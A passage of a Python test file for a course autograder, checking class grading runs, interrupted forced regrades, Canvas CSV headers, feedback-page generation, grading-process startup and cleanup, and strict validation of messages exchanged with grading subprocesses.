    course = make_course(tmp_path / "course", {"ann": {"mha.py": "x = 1\n"}})
    fill_record(course, {"ann": synthetic_run("mha.py")}, device="cpu")
    graded: list[str] = []
    monkeypatch.setattr(grade_class, "grade_all", lambda todo, *a, **k: graded.extend(j.student for j in todo) or True)
    for device in ("auto", "cpu", "auto"):
        assert grade_class.grade_class(grade_class.ClassOptions(course, device=device)) == grade_class.EXIT_DONE
    assert graded == []


def test_a_busy_timing_lock_shows_waiting_to_time_not_cannot_grade():
    from autograder.course.grade_class import progress_words
    from autograder.grading.devices import CANNOT_TIME_NOW
    from autograder.model import TIMING_LOCK

    busy = replace(
        synthetic_run("mha.py", status=CANNOT_GRADE, reason=f"{CANNOT_TIME_NOW}: the lock was held 30 s"),
        cannot_grade_cause=TIMING_LOCK,  # as the grading records it (`workers.CannotTime.cause`)
    )
    assert progress_words(busy).startswith("waiting to time")
    assert progress_words(synthetic_run("mha.py", status=CANNOT_GRADE, reason="broken")) == "cannot grade"
    assert progress_words(synthetic_run("mha.py")) == "100/100"


def test_a_note_cut_in_the_students_table_ends_with_an_ellipsis():
    from autograder.course.class_outputs import NOTE_CHARS, shortened

    note = "While loading, cell 38 raised TimeLimit: stopped after 3 s (an infinite loop?); " * 5
    cut = shortened(note, NOTE_CHARS)
    assert len(cut) <= NOTE_CHARS and cut.endswith("…") and note.startswith(cut[:-1])
    assert shortened("short", NOTE_CHARS) == "short"


def test_a_forced_run_stopped_halfway_is_finished_forced_by_the_next_run_and_merge_says_so(
    tmp_path, monkeypatch, capsys
):
    """FORCE=1 stopped after one of three students: the next run without FORCE regrades the other two
    (forced), not the first again, and until then a merge refuses, naming them."""

    from autograder.course import grade_class

    course = make_course(tmp_path / "course", {s: {"mha.py": "x = 1\n"} for s in ("ann", "bob", "cat")})
    fill_record(course, {s: synthetic_run("mha.py") for s in ("ann", "bob", "cat")})
    graded: list[str] = []
    stopped = []

    class Grader(FakeGrader):
        def run_for(self, request):
            if stopped == [] and request.id != "ann":
                raise KeyboardInterrupt  # Ctrl-C at bob (a kill -9 leaves the same record behind)
            graded.append(request.id)
            return super().run_for(request)

    monkeypatch.setattr(grade_class, "Grader", Grader)
    assert (
        grade_class.grade_class(grade_class.ClassOptions(course, device="cpu", jobs=1, force=True))
        == grade_class.EXIT_INTERRUPTED
    )
    assert graded == ["ann"] and "the forced regrade is half done (2 students" in capsys.readouterr().out
    stopped.append("the first run is over")
    assert grade_class.merge_class(grade_class.ClassOptions(course, merge=True)) == grade_class.EXIT_MERGE_INCOMPLETE
    said = " ".join(capsys.readouterr().out.split())
    assert "bob: a forced regrade stopped before it regraded this student" in said and "ann:" not in said
    assert grade_class.grade_class(grade_class.ClassOptions(course, device="cpu", jobs=1)) == grade_class.EXIT_DONE
    said = " ".join(capsys.readouterr().out.split())
    assert graded == ["ann", "bob", "cat"] and "2 forced (the last forced run stopped before it)" in said
    assert grade_class.grade_class(grade_class.ClassOptions(course, device="cpu", jobs=1)) == grade_class.EXIT_DONE
    assert graded == ["ann", "bob", "cat"] and "0 to grade" in capsys.readouterr().out
    assert grade_class.merge_class(grade_class.ClassOptions(course, merge=True)) == grade_class.EXIT_DONE


def test_the_canvas_file_can_name_an_existing_canvas_assignment_as_canvas_reads_headers(tmp_path):
    """Canvas matches a column headed "Name (id)" to the assignment with that id; a bare name only to an
    assignment of exactly that name (else it makes a new one), which the run says."""
    from autograder.course.class_outputs import canvas_header_note

    rubric = load_rubric()
    header = "Multi-head attention, part 2 (48213)"
    lines = list(csv.reader(io.StringIO(canvas_csv(class_rows(tmp_path), rubric, header))))
    assert lines[0][5] == header and canvas_header_note(header) == ""
    assert "makes a new one" in canvas_header_note("mha") and "Name (id)" in canvas_header_note("mha")


def test_a_refusal_changes_nothing_in_the_course(tmp_path, monkeypatch):
    """Where grading would refuse (no sandbox here), grade-class refuses before it changes anything in the
    course: no lock file, no `chmod o-rwx`, no record."""
    from autograder.course import grade_class

    course = make_course(tmp_path / "course", {"ada": {"mha.py": "x = 1\n"}})
    course.chmod(0o755)
    before = sorted((str(p), p.stat().st_mode, p.stat().st_mtime_ns) for p in [course, *course.rglob("*")])
    monkeypatch.setattr(grade_class, "isolation_refusal", lambda isolation, rubric: "no sandbox is available here")
    assert grade_class.grade_class(grade_class.ClassOptions(course, device="cpu")) == grade_class.EXIT_CANNOT_GRADE
    after = sorted((str(p), p.stat().st_mode, p.stat().st_mtime_ns) for p in [course, *course.rglob("*")])
    assert after == before


def test_feedback_pages_and_the_gradebook_are_made_while_the_class_is_graded(tmp_path, monkeypatch, capsys):
    """Each student's feedback page is written as soon as their run is recorded, and a missing gradebook is
    made meanwhile (`OutputsAhead`): after the last grading, the class outputs find every page current, and
    count the pages written ahead among those the run wrote. A page written ahead is the page the outputs
    would write."""
    from autograder.course import class_outputs, feedback, grade_class
    from autograder.course.rows import feedback_path

    course = make_course(tmp_path / "course", {s: {"mha.py": "x = 1\n"} for s in ("ann", "bob", "cat")})
    pages_when_graded: dict[str, bool] = {}

    class Grader(FakeGrader):
        def run_for(self, request):
            # the students before this one have their pages, or will within seconds (a thread writes them)
            for student in ("ann", "bob"):
                if student < request.id:
                    end = time.monotonic() + 60
                    while not feedback_path(course, student).exists() and time.monotonic() < end:
                        time.sleep(0.05)
                    pages_when_graded[student] = feedback_path(course, student).exists()
            if request.id == "ann":
                pages_when_graded["gradebook"] = (course / "gradebook.db").exists()
            return super().run_for(request)

    monkeypatch.setattr(grade_class, "Grader", Grader)
    assert grade_class.grade_class(grade_class.ClassOptions(course, device="cpu", jobs=1)) == grade_class.EXIT_DONE
    said = " ".join(capsys.readouterr().out.split())
    assert pages_when_graded == {"gradebook": pages_when_graded["gradebook"], "ann": True, "bob": True}
    assert "feedback.html (3 written)" in said, said  # written ahead, each counted: the run wrote them
    assert (course / "gradebook.db").is_file() and "gradebook not updated" not in said
    rows = grade_class.class_rows(read_roster(course), Record(course))
    for row in rows:
        value = feedback.fingerprint(row, False, feedback.renderer_fingerprint())
        assert feedback_path(course, row.student).read_text() == feedback.render(row, False, value)

    # runs that change every page, with the thread told nothing: every page is written after the grading
    class Regrader(FakeGrader):
        def run_for(self, request):
            return GradingRun(status="graded", submission="mha.py", seed=1234)

    monkeypatch.setattr(grade_class, "Grader", Regrader)
    monkeypatch.setattr(class_outputs.OutputsAhead, "graded", lambda self, entry: None)
    assert grade_class.grade_class(grade_class.ClassOptions(course, device="cpu", jobs=1, force=True)) == 0
    assert "feedback.html (3 written)" in " ".join(capsys.readouterr().out.split())


@pytest.mark.slow
def test_the_grading_processes_start_one_at_a_time_each_once_the_last_has_imported(tmp_path, monkeypatch):
    """Started all at once, a class's grading processes shared the cores for their imports and the first
    grading began only once all had imported; now each starts once the one before has said so."""
    import threading
    from concurrent.futures import ThreadPoolExecutor

    from autograder.course import grading_pool

    events: list[tuple[float, str, int]] = []
    popen, read_answer = grading_pool.subprocess.Popen, grading_pool.Grader._read_answer

    def spawning(*args, **kwargs):
        events.append((time.monotonic(), "spawn", threading.get_ident()))
        return popen(*args, **kwargs)

    def reading(self, fd, deadline, ready=False):
        message = read_answer(self, fd, deadline, ready)
        if ready:
            events.append((time.monotonic(), f"ready {message!r}", threading.get_ident()))
        return message

    monkeypatch.setattr(grading_pool.subprocess, "Popen", spawning)
    monkeypatch.setattr(grading_pool.Grader, "_read_answer", reading)
    graders = [grading_pool.Grader() for _ in range(3)]
    try:
        with ThreadPoolExecutor(3) as pool:
            answers = list(pool.map(lambda k: graders[k].grade(quick_job(tmp_path, f"s{k}"), 300), range(3)))
    finally:
        for grader in graders:
            grader.close()
    assert all(answer.ok for answer in answers), answers
    kinds = [kind.split()[0] for _, kind, _ in sorted(events)]
    assert kinds == ["spawn", "ready"] * 3, events  # never a second spawn before the first said it is ready
    assert all(kind.startswith("ready Ready(pid=") for _, kind, _ in events if kind.startswith("ready")), events
    ordered = sorted(events)
    assert all(ordered[i][2] == ordered[i + 1][2] for i in range(0, 6, 2)), ordered  # each thread its own pair


@pytest.mark.slow
def test_a_ready_line_that_comes_late_is_never_taken_for_an_answer(tmp_path, monkeypatch):
    from autograder.course import grading_pool

    monkeypatch.setattr(grading_pool, "READY_SECONDS", 0.0)  # the ready line is not waited for: it comes late
    grader = grading_pool.Grader()
    try:
        first = grader.grade(quick_job(tmp_path, "ann"), 300)
        second = grader.grade(quick_job(tmp_path, "bob"), 300)
    finally:
        grader.close()
    assert first.ok and second.ok and grader.starts == 1, (first, second)
    for name in ("ann", "bob"):
        assert (tmp_path / "results" / name / "mha" / "results.json").exists()
    assert grader.buffer == b""  # nothing left over: each answer was read as the answer to its own job


@pytest.mark.slow
def test_a_grading_process_that_ends_leaves_no_scratch_folder_behind(tmp_path):
    """A class run's grading process, told to end when idle, closes its kept timing workers itself: their
    scratch folders (process isolation: in the temporary folder) and what their uids left go with them.
    Killed instead, each process left its kept workers' empty scratch folders in /tmp."""
    from autograder.course import grading_pool

    scratch = tmp_path / "tmp"
    scratch.mkdir(mode=0o1777)
    (tmp_path / "mha.py").write_text(REFERENCE.read_text())
    job = replace(quick_job(tmp_path, "ann"), submission=tmp_path / "mha.py", parts=("speed",), isolation="process")
    grader = grading_pool.Grader(env={**os.environ, "TMPDIR": str(scratch), "AUTOGRADER_ISOLATION": "process"})
    try:
        answer = grader.grade(job, 300)
        assert answer.ok, answer
        assert len(list(scratch.glob("mha-worker-*"))) == 2  # the two kept timing workers', alive
    finally:
        grader.close()
    assert list(scratch.glob("mha-worker-*")) == []


def test_the_job_and_the_reply_cross_the_pipes_typed_and_checked(tmp_path):
    """A job goes to a grading process as a `GradingJob`, and what comes back is read as `Ready` or `JobReply`,
    field by field: anything else is refused, never taken for an answer."""
    from autograder.course.grading_pool import JobReply, Ready, WireError, read_reply

    job = replace(quick_job(tmp_path, "ann"), parts=("speed",))
    assert GradingJob.from_wire(job.to_wire()) == job
    assert GradingJob.from_wire(quick_job(tmp_path, "bob").to_wire()).parts is None  # all parts: the key is not sent
    assert "parts" not in quick_job(tmp_path, "bob").to_wire()
    assert read_reply(Ready(41).to_wire()) == Ready(41)
    assert read_reply(JobReply("ann", "graded", 1.5).to_wire().encode()) == JobReply("ann", "graded", 1.5)
    for line in (
        b"not json",
        b"[1, 2]",
        b'{"ready": "41"}',
        b'{"ready": true}',
        b'{"id": "ann", "status": "graded"}',
        b'{"id": "ann", "status": "perfect", "seconds": 1}',
        b'{"id": "ann", "status": "graded", "seconds": -1}',
        b'{"id": 7, "status": "graded", "seconds": 1}',
        b'{"id": "ann", "status": "graded", "seconds": 1, "score": 100}',
        b"\xff\xfe",
    ):
        with pytest.raises(WireError):
            read_reply(line)
    with pytest.raises(WireError, match="parts"):
        GradingJob.from_wire('{"id": "a", "submission": "s", "out": "o", "device": "cpu", "rubric": "r", "parts": [1]}')


@pytest.mark.parametrize(
    "reply, problem",
    [
        ('{"id": "ann", "status": "graded", "seconds": "soon"}', "something else than its reply"),
        ('{"id": "bob", "status": "graded", "seconds": 1}', "another job"),
    ],
)
def test_a_grading_process_that_answers_wrongly_is_stopped_and_said(tmp_path, monkeypatch, reply, problem):
    from autograder.course import grading_pool

    script = f"import sys; print('{{\"ready\": 1}}', flush=True); sys.stdin.readline(); print({reply!r}, flush=True)"
    popen = grading_pool.subprocess.Popen
    monkeypatch.setattr(
        grading_pool.subprocess, "Popen", lambda args, **kw: popen([sys.executable, "-c", script], **kw)
    )
    grader = grading_pool.Grader()
    try:
        answer = grader.grade(quick_job(tmp_path, "ann"), 60)
    finally:
        grader.close()
    assert not answer.ok and problem in answer.problem, answer
    assert grader.process is None
